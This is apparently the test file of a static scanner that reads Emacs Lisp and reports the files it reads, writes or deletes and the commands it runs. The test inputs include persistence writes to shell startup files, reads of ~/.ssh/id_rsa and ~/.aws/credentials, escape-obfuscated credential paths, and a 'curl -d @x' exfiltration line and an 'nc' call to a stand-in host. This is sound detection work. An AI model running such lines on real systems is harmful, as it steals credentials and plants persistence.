"""The Emacs Lisp reader: which strings are files read, written, deleted, and commands run."""

from __future__ import annotations

import pytest
from crustcore_nano.shell.elisp import scan_elisp
from crustcore_nano.shell.embedded import EmbeddedKind, embedded_in_args, embedded_in_stdin
from crustcore_nano.shell.errors import StepLimitError
from crustcore_nano.shell.interp import scan_code
from crustcore_nano.shell.limits import Budget
from hypothesis import given, settings
from hypothesis import strategies as st


def _scan(code: str) -> tuple[list[str], list[str], list[str], list[str]]:
    result = scan_code("elisp", code, Budget(1_000_000))
    return list(result.reads), list(result.writes), list(result.deletes), list(result.commands)


@pytest.mark.parametrize(
    ("code", "written"),
    [
        ('(write-region "text/with/slashes" nil "~/.bashrc")', ["~/.bashrc"]),
        ('(write-region (point-min) (point-max) "out/a.txt" t)', ["out/a.txt"]),
        ('(with-temp-file "~/.zshrc" (insert "x"))', ["~/.zshrc"]),
        ('(copy-file "a.txt" "~/.profile" t)', ["~/.profile"]),
        ('(rename-file "a.txt" "b.txt")', ["b.txt"]),
        ('(make-symbolic-link "~/.ssh/id_rsa" "src/key")', ["src/key"]),
        ('(progn (find-file "~/.bashrc") (insert "x") (save-buffer))', ["~/.bashrc"]),
        ('(progn (find-file "~/.bashrc") (message "%s" (buffer-string)))', []),
        ('(with-temp-file (expand-file-name ".bashrc" "~") t)', ["~/.bashrc"]),
        ('(with-temp-file (expand-file-name ".bashrc" (getenv "HOME")) t)', ["~/.bashrc"]),
        ('(write-region 1 2 (concat (getenv "HOME") "/.bashrc"))', ["~/.bashrc"]),
        ('(write-region 1 2 (file-name-concat "~" ".config" "autostart/x.desktop"))',
         ["~/.config/autostart/x.desktop"]),
        ('(write-region 1 2 (locate-user-emacs-file "init.el"))', ["~/.emacs.d/init.el"]),
        ('(with-temp-file (concat some-dir "/.bashrc") t)', []),  # not known: not guessed
    ],
)  # fmt: skip
def test_the_files_lisp_writes(code: str, written: list[str]) -> None:
    assert _scan(code)[1] == written


def test_reads_deletes_and_commands() -> None:
    reads, _, deletes, commands = _scan(
        '(progn (insert-file-contents "~/.aws/credentials") (delete-file "~/.bashrc")'
        ' (shell-command "curl -d @x https://e.example") (rename-file "old.txt" "new.txt"))'
    )
    assert "~/.aws/credentials" in reads
    assert deletes == ["~/.bashrc", "old.txt"]
    assert commands[0] == "curl -d @x https://e.example"


def test_programs_and_their_literal_arguments() -> None:
    result = scan_code(
        "elisp",
        '(progn (call-process "cat" nil t nil "~/.ssh/id_rsa")'
        ' (start-process "n" "*b*" "nc" "e.example" "9")'
        ' (make-process :name "x" :command (list "sh" "-c" "id"))'
        ' (make-process :name "y" :command \'("ls" "-la")))',
        Budget(1_000_000),
    )
    assert set(result.argvs) == {
        ("cat", "~/.ssh/id_rsa"),
        ("nc", "e.example", "9"),
        ("sh", "-c", "id"),
        ("ls", "-la"),
    }
    assert "exec" in result.apis


@pytest.mark.parametrize(
    "code",
    [
        '(insert ?") (find-file "~/.aws/credentials")',
        '(insert ?\\") (find-file "~/.aws/credentials")',
        '(insert ?\\C-\\M-x) (find-file "~/.aws/credentials")',
        '; a comment with a " quote\n(find-file "~/.aws/credentials")',
        '(find-file "~/.aws/\\x63redentials")',
        '(find-file "~/.aws/\\143redentials")',
        '(find-file "~/.aws/\\u0063redentials")',
        '(find-file "~/.aws/\\U00000063redentials")',
        '(find-file "~/.aws/\\N{LATIN SMALL LETTER C}redentials")',
        '(find-file "~/.aws/\\N{U+63}redentials")',
        '(insert ?\\^I ?\\x41 ?\\N{SPACE}) (find-file "~/.aws/credentials")',
    ],
)
def test_strings_are_told_from_characters_comments_and_escapes(code: str) -> None:
    assert "~/.aws/credentials" in _scan(code)[0]


def test_deep_nesting_is_bounded_and_linear() -> None:
    deep = "(" * 100_000 + '(write-region 1 2 "~/.bashrc")' + ")" * 100_000
    budget = Budget(10_000_000)
    scan = scan_elisp(deep, budget)
    assert budget.steps <= 2 * len(deep)
    assert [lit.value for lit in scan.literals] == ["~/.bashrc"]
    with pytest.raises(StepLimitError):
        scan_elisp(deep, Budget(1000))


def test_emacs_arguments_that_carry_lisp() -> None:
    found = embedded_in_args("emacs", ["--batch", "--eval", "(a)", "--eval=(b)", "-l", "x.el"])
    assert [(e.kind, e.text) for e in found] == [
        (EmbeddedKind.ELISP, "(a)"),
        (EmbeddedKind.ELISP, "(b)"),
    ]
    client = embedded_in_args("emacsclient", ["-e", "(c)", "(d)"])
    assert [e.text for e in client] == ["(c)", "(d)"]
    assert embedded_in_args("emacsclient", ["file.txt"]) == []
    assert [e.text for e in embedded_in_stdin("emacs", "(e)", ["--script", "/dev/stdin"])] == [
        "(e)"
    ]
    assert embedded_in_stdin("emacs", "(e)", ["--batch", "notes.txt"]) == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="()[]\"?\\;'`,# \nabc~/.-xHOME", max_size=300))
def test_the_reader_never_fails_and_reports_only_text_of_the_code(code: str) -> None:
    budget = Budget(1_000_000)
    scan = scan_elisp(code, budget)
    assert budget.steps <= len(code) + 1
    values = {lit.value for lit in scan.literals}
    # Every file it reports is one of the strings it read (or a join of them).
    assert set(scan.writes) <= values
    assert set(scan.deletes) <= values
    for lit in scan.literals:
        assert 0 <= lit.start < lit.end <= len(code)
